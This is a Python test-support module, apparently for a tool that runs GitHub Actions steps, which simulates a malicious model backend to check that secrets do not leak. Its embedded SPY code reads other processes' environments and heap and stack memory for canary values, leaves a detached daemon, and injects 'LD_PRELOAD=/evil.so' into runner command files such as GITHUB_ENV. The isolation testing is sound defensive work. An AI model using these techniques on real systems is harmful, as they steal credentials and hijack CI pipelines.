"""Malicious code as a backend, training or model may contain, and a caller whose environment holds secrets."""

import ctypes
import json
import os
import secrets
import subprocess
import sys
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

from tests.waiting import CEILING_S

_CAPBSET_DROP, _CAP_SYS_PTRACE = 24, 19
# Writes down, a line each, every canary that it finds: where, whose, which. `who` is the name of what runs it.
SPY = r'''
import os as _os
import re as _re


def _parents(pid):
    while pid > 1:
        pid = int(open(f"/proc/{pid}/stat", "rb").read().rpartition(b")")[2].split()[1])
        yield pid


def _memory(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            place, rights, *rest = line.split()
            if rights.startswith("rw") and rest[-1] in ("[heap]", "[stack]", "0"):
                start, end = (int(part, 16) for part in place.split("-"))
                memory.seek(start)
                yield memory.read(min(end - start, 1 << 26))


def spy(who, loot):
    found = []

    def keep(where, raw):
        found.extend(f"{who} {where} {canary.decode()}" for canary in _re.findall(rb"canary-[0-9a-f]{8}-[A-Z_]+", raw))

    keep("own", repr(dict(_os.environ)).encode())
    for pid in filter(str.isdecimal, _os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            try:
                raw = open(f"/proc/{pid}/{name}", "rb").read()
            except OSError:
                continue
            # Itself, and what it starts, have what it has.
            if int(pid) == _os.getpid() or _os.getpid() in _parents_of(int(pid)):
                continue
            keep(name, raw)
    for pid in _parents_of(_os.getpid()):
        try:
            for raw in _memory(pid):
                keep("memory", raw)
        except OSError:
            pass
    with open(loot, "a") as file:
        file.write("".join(f"{line}\n" for line in dict.fromkeys([*found, f"{who} was here"])))


def _parents_of(pid):
    try:
        return list(_parents(pid))
    except (OSError, ValueError):
        return []


def leave(note):
    """Leave a daemon behind: two forks, a session of its own."""
    import subprocess as _subprocess
    import sys as _sys

    code = ("import os, sys, time\nos.setsid()\nif os.fork(): os._exit(0)\n"
            "open(sys.argv[1], 'a').write(f'{os.getpid()}\\n'); time.sleep(3600)")
    _subprocess.Popen([_sys.executable, "-I", "-c", code, note], stdin=-3, stdout=-3, stderr=-3).wait()
    while not _os.path.exists(note):
        pass


def command_the_runner(folder):
    """Write to every file in which a runner takes commands, wherever it is found."""
    named = [_os.environ[name] for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT") if name in _os.environ]
    below = [_os.path.join(base, name) for base, _, names in _os.walk(folder) for name in names]
    for path in [*named, *below]:
        with open(path, "a") as file:
            file.write("LD_PRELOAD=/evil.so\n")
'''


@dataclass(frozen=True, kw_only=True)
class Caller:
    """Somebody whose environment holds canaries, on a runner of their own."""

    place: Path
    token: str

    @classmethod
    def at(cls, place: Path) -> "Caller":
        """A caller with files of a runner in a folder."""
        caller = cls(place=place, token=f"canary-{secrets.token_hex(4)}")
        caller.runner.mkdir(parents=True)
        return caller

    @property
    def runner(self) -> Path:
        """The folder of the runner's command files."""
        return self.place / "_runner_file_commands"

    @property
    def loot(self) -> Path:
        """Where what was found is written down."""
        return self.place / "loot"

    def canary(self, name: str) -> str:
        """The value of a variable."""
        return f"{self.token}-{name}"

    def canaries(self, *names: str) -> dict[str, str]:
        """Variables with such values."""
        return {name: self.canary(name) for name in names}

    def found(self, who: str) -> set[str]:
        """What was found by whom: `where NAME`."""
        lines = [line.split() for line in self.loot.read_text().splitlines() if line.startswith(f"{who} ")]
        assert lines, f"{who} never ran"
        return {
            f"{where} {what.rpartition('-')[2]}" for _, where, what, *_ in lines if what.startswith(f"{self.token}-")
        }

    def act(self, step: str, variables: Mapping[str, str], folder: Path, **inputs: str) -> "Acted":
        """Run a step as an action does, whose runner has fresh files for it; root without the right to trace."""
        files = {}
        for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE", "GITHUB_STEP_SUMMARY"):
            files[name] = self.runner / f"{name.lower()}_{secrets.token_hex(4)}"
            files[name].touch()
        done = self.run(
            (sys.executable, "-I", "-m", "mlflow_uv.surfaces.github", step),
            {
                **variables,
                **{name: str(path) for name, path in files.items()},
                "GITHUB_ACTIONS": "true",
                "GITHUB_WORKSPACE": str(folder),
                "RUNNER_TEMP": str(self.place),
                "MLFLOW_UV_INPUTS": json.dumps({name.replace("_", "-"): value for name, value in inputs.items()}),
            },
            folder,
        )
        commands = {name: path.read_text() for name, path in files.items()}
        return Acted(code=done.returncode, log=done.stdout + done.stderr, commands=commands)

    def run(
        self, argv: tuple[str, ...], variables: Mapping[str, str], folder: Path
    ) -> "subprocess.CompletedProcess[str]":
        """Run a program with canaries around; root may trace nobody, as in a container."""
        return subprocess.run(
            argv,
            cwd=folder,
            env={**os.environ, **variables},
            capture_output=True,
            text=True,
            check=False,
            timeout=CEILING_S,
            preexec_fn=_without_tracing,  # no threads here
        )


@dataclass(frozen=True, kw_only=True)
class Acted:
    """How a step of an action ended, its log, and what its runner reads then, by variable."""

    code: int
    log: str
    commands: Mapping[str, str]

    @property
    def seen(self) -> str:
        """Everything that leaves the step."""
        return "".join((self.log, *self.commands.values()))


def _without_tracing() -> None:
    ctypes.CDLL(None).prctl(_CAPBSET_DROP, _CAP_SYS_PTRACE, 0, 0, 0)
